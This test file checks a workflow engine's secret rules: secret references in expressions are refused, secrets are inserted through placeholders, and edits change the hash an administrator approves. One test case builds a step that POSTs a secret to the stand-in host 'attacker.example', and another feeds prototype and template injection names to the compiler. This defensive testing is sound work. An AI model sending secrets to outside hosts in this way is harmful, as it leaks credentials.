import { describe, expect, test } from 'vitest';
import { compileDefinition } from '../../../src/daemons/workflow/domain/definition/compile-definition.ts';
import { requireNoSecrets } from '../../../src/daemons/workflow/domain/definition/secret-approvals.ts';
import { withSecrets } from '../../../src/daemons/workflow/domain/definition/secret-places.ts';
import { setStep } from '../../../src/daemons/workflow/domain/steps/kinds/builtins.ts';
import { httpStep } from '../../../src/daemons/workflow/domain/steps/kinds/http.ts';
import { PlatformError } from '../../../src/kit/errors/errors.ts';
import { Budget } from '../../../src/kit/expressions/budget.ts';
import type { JsonValue } from '../../../src/store/ports/index.ts';
import { cel } from './support/workflow.ts';

const http = httpStep(() => {
  throw new Error('no request');
}, Date.now);
const kindOf = (uses: string) => (uses === 'set' ? setStep : http);
const compile = (definition: object) => compileDefinition(definition, kindOf);

const URL = 'https://api.example.com/';
const SECRET = cel('secrets.A');
const VALUE = 'the-value-of-the-secret';

const of = (step: object, { job = {}, workflow = {} }: { job?: object; workflow?: object } = {}) => ({
  id: 'flow',
  permissions: { secrets: ['A'] },
  jobs: { main: { steps: [{ id: 'call', uses: 'http', ...step }], ...job } },
  ...workflow,
});
const withBody = (body: unknown) => of({ with: { url: URL, method: 'POST', body } });

/** Returns the faults of a definition with their paths, or an empty list if it compiles. */
function faultsOf(definition: object): string[] {
  try {
    compile(definition);
    return [];
  } catch (error) {
    if (!(error instanceof PlatformError)) throw error;
    const { issues } = error.details as { issues: Array<{ path: string; message: string }> };
    return issues.map(({ path, message }) => `${path}: ${message}`);
  }
}

describe('an expression that names a secret is refused with its path', () => {
  const WITH = 'jobs.main.steps[0].with';
  const step = { with: { url: URL } };
  test.each<[string, object, string]>([
    ['in a concatenation', withBody(cel("'x' + secrets.A")), `${WITH}.body`],
    ['in a text with more around it', withBody(`Bearer ${SECRET}`), `${WITH}.body`],
    ['twice in one text', withBody(`${SECRET}${SECRET}`), `${WITH}.body`],
    ['in a map', withBody(cel("{'a': secrets.A}")), `${WITH}.body`],
    ['in a list', withBody(cel('[secrets.A]')), `${WITH}.body`],
    ['in a function', withBody(cel('size(secrets.A)')), `${WITH}.body`],
    ['in a condition', withBody(cel("secrets.A.startsWith('x') ? 1 : 2")), `${WITH}.body`],
    ['in a macro', withBody(cel('[1].map(x, secrets.A)')), `${WITH}.body`],
    ['by an index', withBody(cel("secrets['A']")), `${WITH}.body`],
    ['as a whole', withBody(cel('secrets')), `${WITH}.body`],
    ['deep in an object', withBody({ deep: [{ a: cel("secrets.A + ''") }] }), `${WITH}.body.deep[0].a`],
    ['in a URL', of({ with: { url: `${URL}?key=${SECRET}` } }), `${WITH}.url`],
    ['in the condition of a step', of({ ...step, if: "secrets.A == 'x'" }), 'jobs.main.steps[0].if'],
    ['whole, in the condition of a step', of({ ...step, if: SECRET }), 'jobs.main.steps[0].if'],
    ['in an idempotency key', of({ ...step, idempotencyKey: SECRET }), 'jobs.main.steps[0].idempotencyKey'],
    ['in the condition of a job', of(step, { job: { if: 'secrets.A != null' } }), 'jobs.main.if'],
    [
      'in the matrix over which a job repeats',
      of(step, { job: { strategy: { matrix: { v: SECRET } } } }),
      'jobs.main.strategy.matrix.v',
    ],
    ['in the outputs of a job', of(step, { job: { outputs: { v: SECRET } } }), 'jobs.main.outputs.v'],
    ['in the outputs of the workflow', of(step, { workflow: { outputs: { v: SECRET } } }), 'outputs.v'],
    ['in a concurrency key', of(step, { workflow: { concurrency: { key: SECRET } } }), 'concurrency.key'],
    [
      'in the input of a trigger',
      of(step, { workflow: { on: { webhook: { pluginId: 'p', event: 'e', input: { v: SECRET } } } } }),
      'webhook',
    ],
  ])('%s', (_case, definition, path) => {
    const faults = faultsOf(definition);
    expect(faults.join('\n')).toContain('secrets');
    expect(faults[0]).toContain(path);
  });
});

describe('a secret as the whole text of a value', () => {
  const scope = { input: { text: SECRET }, run: {}, matrix: {}, steps: {}, needs: {}, jobs: {} };
  const state = { success: true, failure: false, cancelled: false };

  test('reaches no expression: the template has a placeholder, and the value is put in afterwards', () => {
    const definition = withBody({ token: SECRET, other: cel('input.text'), list: [cel('1 + 1'), SECRET] });
    const { jobs } = compile(definition);
    const { with: template, secrets } = jobs[0]!.steps[0]!;
    const sources = template.expressions.map(({ path }) => path.at(-1));
    expect(sources).toEqual(['other', 0]);
    const input = template.evaluate({ ...scope, state } as never, new Budget(10_000, false)) as Record<
      string,
      JsonValue
    >;
    // The text of an input that looks like a reference to a secret is an ordinary text.
    const body = { token: '[secret A]', other: SECRET, list: [2, '[secret A]'] };
    expect(input).toMatchObject({ body });
    expect(withSecrets(input, secrets!, new Map([['A', VALUE]]))).toMatchObject({
      body: { token: VALUE, other: SECRET, list: [2, VALUE] },
    });
    expect(input).toMatchObject({ body });
  });

  test('must be listed, and no step gets it that would record it', () => {
    expect(faultsOf(withBody(cel('secrets.B')))).toEqual([
      expect.stringContaining('the secret B is not listed'),
    ]);
    expect(faultsOf({ ...withBody(SECRET), permissions: {} })).toEqual([
      expect.stringContaining('is not listed'),
    ]);
    expect(faultsOf(of({ uses: 'set', with: { v: SECRET } }))).toEqual([
      expect.stringContaining('would store the secret'),
    ]);
  });

  test('a name that is no name of a secret is an expression, and refused', () => {
    for (const name of ['secrets.a', 'secrets.__proto__', 'secrets.A.B', 'secrets.A B', 'secrets.A }}x${{ 1'])
      expect(faultsOf(withBody(cel(name))), name).not.toEqual([]);
  });
});

test('a definition that is sent with a run and lists secrets is refused', () => {
  expect(() => requireNoSecrets(compile(withBody(SECRET)))).toThrow(/cannot use secrets/);
  // Without the list, the reference itself is refused.
  expect(faultsOf({ ...withBody(SECRET), permissions: undefined })).not.toEqual([]);
});

test('each change of a definition changes the hash that an administrator approves', () => {
  const hash = (definition: object) => compile(definition).hash;
  const approved = hash(withBody(SECRET));
  expect(hash(structuredClone(withBody(SECRET)))).toBe(approved);
  const changed = [
    of({ with: { url: 'https://attacker.example/', method: 'POST', body: SECRET } }),
    of({ with: { url: URL, method: 'PUT', body: SECRET } }),
    of({ with: { url: URL, method: 'POST', body: SECRET }, if: 'true' }),
    of({ uses: 'other/command', with: { url: URL, method: 'POST', body: SECRET } }),
    { ...withBody(SECRET), permissions: { secrets: ['A', 'B'] } },
    of({ with: { url: URL, method: 'POST', body: SECRET } }, { workflow: { name: 'Other' } }),
  ];
  expect(new Set([approved, ...changed.map(hash)]).size).toBe(changed.length + 1);
});
